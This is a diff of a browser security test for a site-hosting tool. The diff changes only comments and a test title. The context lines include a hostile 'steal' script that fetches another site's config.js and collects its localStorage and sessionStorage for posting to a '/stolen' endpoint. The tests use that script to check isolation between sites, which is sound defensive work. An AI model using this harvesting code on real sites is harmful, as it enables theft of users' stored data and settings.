@@ -8,7 +8,7 @@ import { findServer } from '#infra/setup/find-server.ts';
 import { openBrowser } from '../support/open-browser.ts';
 import { siteFolder } from './site-folder.ts';
 
-/** Takes what it can get of another organization's site: what the browser keeps for it, and its settings. */
+/** Hostile script that reads another organization's site: its browser storage and its settings. */
 const steal = `const take = async (from) => {
     const settings = await fetch(from + '/b/_bindery/config.js').then((answer) => answer.text()).catch(() => '');
     const kept = JSON.stringify({ ...localStorage, ...sessionStorage });
@@ -93,7 +93,7 @@ describe.skipIf(findServer('chromium') === undefined)(
       return folder;
     }
 
-    /** A reader who has a thread with the assistant of the other site opens the hostile page, and touches what is there. */
+    /** A reader with a thread with the assistant of the other site opens the hostile page and uses its elements. */
     async function visit(victim: string, address: string): Promise<Page> {
       const page = await browser.newPage();
       await page.goto(`${victim}/b/index.html`);
@@ -106,7 +106,7 @@ describe.skipIf(findServer('chromium') === undefined)(
 
     const victimFiles = { 'index.mdx': 'The other site' };
 
-    test('reads everything of a neighbour on one host, which is why it may not run there', async () => {
+    test('reads all data of another site on the same host, which is why it may not run there', async () => {
       const victim = await site(victimFiles, true);
       const { url, stolen } = await host({ a: await site(hostile(''), true), b: victim });
       await visit(url, url);
@@ -120,7 +120,7 @@ describe.skipIf(findServer('chromium') === undefined)(
       expect(await page.locator('script[src*="islands"], script[src*="own.js"], .island').count()).toBe(0);
       for (const path of ['_bindery/islands.js', '_bindery/react.js', 'own.js'])
         expect((await page.request.get(`${url}/a/${path}`)).status()).toBe(404);
-      // Whatever could still come was sent before this is answered.
+      // All pending requests were sent before this one is answered.
       await page.evaluate("fetch('/stolen', { method: 'POST', body: 'the end' })");
       expect(stolen).toEqual(['the end']);
     });
@@ -129,7 +129,7 @@ describe.skipIf(findServer('chromium') === undefined)(
       const other = await host({ b: await site(victimFiles, true) });
       const own = await host({ a: await site(hostile(other.url), true) });
       const page = await visit(other.url, own.url);
-      // It has run: its own script, its element, and its component.
+      // Its script, its element and its component have run.
       await expect.poll(() => own.stolen.length).toBeGreaterThanOrEqual(2);
       await page.locator('.island-live').first().waitFor();
       expect(secrets.filter((secret) => own.stolen.join('').includes(secret))).toEqual([]);
